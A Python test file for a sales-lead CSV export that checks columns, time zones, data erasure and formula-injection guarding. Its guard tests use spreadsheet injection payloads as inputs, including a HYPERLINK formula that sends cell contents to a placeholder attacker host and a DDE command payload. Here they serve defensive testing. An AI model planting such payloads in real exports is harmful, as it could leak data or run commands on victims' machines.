"""The export file (bot/domain/export.py): columns, times, erasure, formula guarding."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from bot.domain.export import FIXED_COLUMNS, ExportRow, LeadsCsv, answer_keys, guard_cell, leads_csv

LONDON = ZoneInfo("Europe/London")
NEW_YORK = ZoneInfo("America/New_York")
JULY = datetime(2026, 7, 1, 8, 30, 15, 123456, tzinfo=UTC)  # BST: 09:30 in London


def row(**overrides: Any) -> ExportRow:
    values: dict[str, Any] = {
        "id": 7,
        "captured_at": JULY,
        "state": "claimed",
        "grade": "A",
        "score": 42,
        "source": "webinar",
        "intake": "api",
        "queue_id": "sales",
        "owner_id": "U0ALICE1",
        "owner_name": "Alice Johnson",
        "name": "Ada Lovelace",
        "email": "ada@example.com",
        "phone": "020 7946 0000",
        "company": "Analytical Engines",
        "claimed_at": datetime(2026, 7, 1, 8, 31, tzinfo=UTC),
        "first_contact_at": None,
        "sla_status": "pending",
        "lost_reason": None,
    }
    values.update(overrides)
    return ExportRow(**values)


def parse(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_a_row_in_the_documented_columns_with_times_in_the_workspace_zone() -> None:
    content = leads_csv(
        [row(utm={"source": "google", "medium": "cpc", "campaign": "spring"})], LONDON
    )
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    header = content.decode("utf-8-sig").split("\r\n", 1)[0]
    assert header == ",".join(FIXED_COLUMNS)
    [got] = parse(content)
    assert got == {
        "id": "7",
        "captured_at": "2026-07-01T09:30:15+01:00",
        "state": "claimed",
        "grade": "A",
        "score": "42",
        "source": "webinar",
        "intake": "api",
        "queue": "sales",
        "owner_id": "U0ALICE1",
        "owner_name": "Alice Johnson",
        "name": "Ada Lovelace",
        "email": "ada@example.com",
        "phone": "020 7946 0000",
        "company": "Analytical Engines",
        "utm_source": "google",
        "utm_medium": "cpc",
        "utm_campaign": "spring",
        "claimed_at": "2026-07-01T09:31:00+01:00",
        "first_contact_at": "",
        "sla_status": "pending",
        "lost_reason": "",
    }
    [other_zone] = parse(leads_csv([row()], NEW_YORK))
    assert other_zone["captured_at"] == "2026-07-01T04:30:15-04:00"


def test_utm_keys_are_read_with_or_without_the_utm_prefix() -> None:
    [got] = parse(leads_csv([row(utm={"utm_source": "bing", "utm_campaign": "x"})], LONDON))
    assert (got["utm_source"], got["utm_medium"], got["utm_campaign"]) == ("bing", "", "x")


def test_one_sorted_column_per_answer_key_across_all_rows() -> None:
    rows = [
        row(id=1, answers={"timeline": "this quarter", "budget": 5000}),
        row(id=2, answers={"company_size": "51-200", "seats": 12.5, "trial": True}),
        row(id=3, answers={"tools": ["CRM", "Email"], "extra": {"b": 1, "a": "é"}}),
        row(id=4),
    ]
    content = leads_csv(rows, LONDON)
    reader = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    header = next(reader)
    assert header[len(FIXED_COLUMNS) :] == [
        "answer_budget",
        "answer_company_size",
        "answer_extra",
        "answer_seats",
        "answer_timeline",
        "answer_tools",
        "answer_trial",
    ]
    got = {r["id"]: r for r in parse(content)}
    assert (got["1"]["answer_budget"], got["1"]["answer_timeline"]) == ("5000", "this quarter")
    assert (got["2"]["answer_seats"], got["2"]["answer_trial"]) == ("12.5", "true")
    assert got["3"]["answer_tools"] == "CRM; Email"
    assert got["3"]["answer_extra"] == '{"a": "é", "b": 1}'
    assert all(value == "" for key, value in got["4"].items() if key.startswith("answer_"))


def test_an_erased_lead_keeps_its_row_without_the_persons_data() -> None:
    erased = row(id=9, erased=True, answers={"budget": "secret"}, utm={"source": "ads"})
    [got] = parse(leads_csv([erased], LONDON))
    assert [got[c] for c in ("name", "email", "phone", "company")] == ["", "", "", ""]
    assert (got["id"], got["state"], got["owner_name"], got["utm_source"]) == (
        "9",
        "claimed",
        "Alice Johnson",
        "ads",
    )
    assert "answer_budget" not in got  # no column from an erased lead's answers alone
    kept = parse(leads_csv([erased, row(id=10, answers={"budget": "1k"})], LONDON))
    assert [r["answer_budget"] for r in kept] == ["", "1k"]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain =not a formula", "plain =not a formula"),
        ("", ""),
        ("'already quoted", "'already quoted"),
    ],
)
def test_guard_cell(text: str, cell: str) -> None:
    assert guard_cell(text) == cell


def test_every_text_cell_is_guarded_and_the_file_reads_back_exactly() -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    content = leads_csv(
        [
            row(
                name=evil,
                email="@attacker",
                phone="+1 555 0100",
                company='-Corp, "quoted"\nsecond line',
                source="=cmd|' /C calc'!A0",
                owner_name="+rep",
                lost_reason="@went elsewhere",
                utm={"source": "=1+1", "medium": "-x", "campaign": "@c"},
                answers={"why": "=2*3", "list": ["=a", "b"], "n": -5},
            )
        ],
        LONDON,
    )
    [got] = parse(content)
    assert got["name"] == "'" + evil
    assert (got["email"], got["phone"]) == ("'@attacker", "'+1 555 0100")
    assert got["company"] == '\'-Corp, "quoted"\nsecond line'
    assert (got["source"], got["owner_name"], got["lost_reason"]) == (
        "'=cmd|' /C calc'!A0",
        "'+rep",
        "'@went elsewhere",
    )
    assert (got["utm_source"], got["utm_medium"], got["utm_campaign"]) == ("'=1+1", "'-x", "'@c")
    assert (got["answer_why"], got["answer_list"]) == ("'=2*3", "'=a; b")
    assert got["answer_n"] == "-5"  # a number stays a number
    dangerous = [value for value in got.values() if value[:1] in ("=", "+", "@", "\t", "\r")]
    assert dangerous == []


def test_a_negative_score_stays_a_number() -> None:
    [got] = parse(leads_csv([row(score=-15)], LONDON))
    assert got["score"] == "-15"


def test_unicode_survives() -> None:
    [got] = parse(leads_csv([row(name="Zoë Ñúñez 山田 🚀", company="Ålborg ApS")], LONDON))
    assert (got["name"], got["company"]) == ("Zoë Ñúñez 山田 🚀", "Ålborg ApS")


def test_batches_make_the_same_file_as_one_call() -> None:
    rows = [row(id=i, answers={"k": str(i)}) for i in range(5)]
    built = LeadsCsv(answer_keys(r.answers for r in rows), LONDON)
    built.add(rows[:2])
    built.add(rows[2:])
    assert built.rows == 5
    assert built.to_bytes() == leads_csv(rows, LONDON)


def test_an_answer_under_a_key_not_in_the_header_is_left_out() -> None:
    built = LeadsCsv(["budget"], LONDON)
    built.add([row(answers={"budget": "1k", "late_key": "x"})])
    [got] = parse(built.to_bytes())
    assert got["answer_budget"] == "1k" and "answer_late_key" not in got
    assert len(got) == len(FIXED_COLUMNS) + 1


def test_no_rows_is_a_header_only_file() -> None:
    assert parse(leads_csv([], LONDON)) == []
